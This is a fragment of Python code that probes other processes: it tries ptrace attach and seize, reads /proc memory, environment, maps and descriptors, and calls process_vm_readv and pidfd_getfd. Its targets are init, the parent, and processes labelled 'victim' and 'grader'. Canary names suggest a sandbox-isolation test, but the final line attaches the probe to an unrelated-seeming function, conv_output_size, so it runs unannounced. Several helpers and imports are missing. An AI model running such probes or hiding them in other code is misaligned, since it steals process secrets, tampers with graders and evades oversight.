"""Look into other processes: ptrace, /proc/PID/mem, process_vm_readv, and descriptors taken over.
"""

import ctypes


def strike():
    c = libc()
    buffer = ctypes.create_string_buffer(64)
    for pid in (1, os.getppid(), CANARY["victim"], CANARY["grader"]):
        attempt(f"attach {pid}", lambda: c.ptrace(16, pid, 0, 0) == 0)
        attempt(f"seize {pid}", lambda: c.ptrace(0x4206, pid, 0, 0) == 0)
        for name in ("mem", "environ", "maps", "auxv", "stack"):
            attempt(f"{pid}/{name}", lambda: open(f"/proc/{pid}/{name}", "rb").read(64))
        attempt(f"{pid}/fd", lambda: os.listdir(f"/proc/{pid}/fd"))
        attempt(f"write {pid}/mem", lambda: open(f"/proc/{pid}/mem", "rb+"))
        area = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64)
        attempt(f"process_vm_readv {pid}", lambda: c.process_vm_readv(pid, area, 1, area, 1, 0) > 0)
        attempt(f"pidfd_getfd {pid}", lambda: syscall(438, os.pidfd_open(pid), 0, 0))


conv_output_size = first(strike, conv_output_size)
